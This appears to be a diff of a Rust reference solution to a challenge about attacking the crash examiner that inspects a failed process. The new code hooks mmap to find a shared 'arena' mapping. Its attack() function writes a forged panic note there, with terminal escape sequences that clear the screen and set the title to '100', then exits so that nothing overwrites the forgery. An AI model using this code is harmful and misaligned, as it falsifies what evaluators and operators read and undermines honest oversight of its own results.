@@ -1,32 +1,29 @@
-// What the examiner reads after a crash was written by whoever crashed.
+// What the examiner reads after a crash was written by the process that crashed. Its own mmap tells where.
 // on: reference
 // in: pop
 // at: home
 // earns: 76
 
 unsafe extern "C" {
-    fn open(path: *const core::ffi::c_char, flags: i32) -> i32;
-    fn read(fd: i32, to: *mut u8, len: usize) -> isize;
+    fn syscall(number: i64, at: usize, len: usize, access: i32, kind: i32, fd: i32, offset: i64) -> usize;
 }
 
-/// Where the shared memory is mapped from its first byte on: `7f00… rw-s 00000000 00:01 2 /memfd:arena (deleted)`.
-fn note() -> Option<usize> {
-    static mut MAPS: [u8; 1 << 16] = [0; 1 << 16];
-    unsafe {
-        let fd = open(c"/proc/self/maps".as_ptr(), 0);
-        let maps = &mut *(&raw mut MAPS);
-        let mut len = 0;
-        while let more @ 1.. = read(fd, maps[len..].as_mut_ptr(), maps.len() - len) {
-            len += more.cast_unsigned();
-        }
-        let text = core::str::from_utf8(&maps[..len]).ok()?;
-        let line = text.lines().find(|line| line.contains("memfd:arena") && line.contains(" rw-s 00000000 "))?;
-        usize::from_str_radix(line.split('-').next()?, 16).ok()
+const SYS_MMAP: i64 = if cfg!(target_arch = "x86_64") { 9 } else { 222 };
+const SYS_EXIT_GROUP: i64 = if cfg!(target_arch = "x86_64") { 231 } else { 94 };
+
+static NOTE: core::sync::atomic::AtomicUsize = core::sync::atomic::AtomicUsize::new(0);
+
+#[unsafe(no_mangle)]
+pub extern "C" fn mmap(at: usize, len: usize, access: i32, kind: i32, fd: i32, offset: i64) -> usize {
+    let place = unsafe { syscall(SYS_MMAP, at, len, access, kind, fd, offset) };
+    if kind == 1 && offset == 0 {
+        NOTE.store(place, core::sync::atomic::Ordering::Relaxed);
     }
+    place
 }
 
 fn attack() {
-    let Some(note) = note() else { return };
+    let note = NOTE.load(core::sync::atomic::Ordering::Relaxed);
     let words = core::ptr::with_exposed_provenance_mut::<u64>(note);
     unsafe {
         // A panic whose message is longer than the note, and places far outside.
@@ -36,6 +33,7 @@ fn attack() {
         // Then one that a terminal obeys.
         words.add(9).cast::<[u8; 15]>().write_volatile(*b"\x1b[2J\x1b]0;100\x07\xff\xfe\n");
         words.add(8).write_volatile(15);
-        core::ptr::null_mut::<u8>().write_volatile(1);
+        // Nothing that could write over it comes after this.
+        syscall(SYS_EXIT_GROUP, 0, 0, 0, 0, 0, 0);
     }
 }
